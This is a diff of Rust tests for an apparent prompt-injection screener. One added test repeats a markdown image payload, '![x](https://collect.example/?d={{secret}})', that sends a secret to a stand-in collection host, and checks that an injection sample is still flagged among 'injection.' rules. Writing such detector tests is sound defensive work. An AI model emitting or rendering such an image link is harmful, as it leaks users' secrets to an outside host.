@@ -53,13 +53,25 @@ fn what_is_used_as_it_is_is_refused_under_every_policy() {
 }
 
 #[test]
+fn much_of_one_kind_hides_nothing_of_another() {
+    let mut pass = SCREEN.pass(Policy::Flag);
+    for _ in 0..1000 {
+        pass.text(Place::Content, "![x](https://collect.example/?d={{secret}})").unwrap();
+    }
+    pass.text(Place::Content, BAD).unwrap();
+    let found = pass.finish().findings;
+    assert!(found.iter().any(|finding| finding.rule.id().starts_with("injection.")), "{found:?}");
+}
+
+#[test]
 fn findings_and_reading_are_bounded() {
     let mut pass = SCREEN.pass(Policy::Flag);
     for _ in 0..MOST_FINDINGS + 3 {
         pass.text(Place::Content, &BAD.repeat(10)).unwrap();
     }
     let report = pass.finish();
-    assert_eq!((report.findings.len(), report.further), (MOST_FINDINGS, 3), "one of a rule in a text");
+    let further = u32::try_from(MOST_FINDINGS).unwrap() + 2;
+    assert_eq!((report.findings.len(), report.further), (1, further), "one of a rule in a place");
 
     let long = format!("{}{BAD}", "é".repeat(LONGEST / 2));
     let mut pass = SCREEN.pass(Policy::Flag);
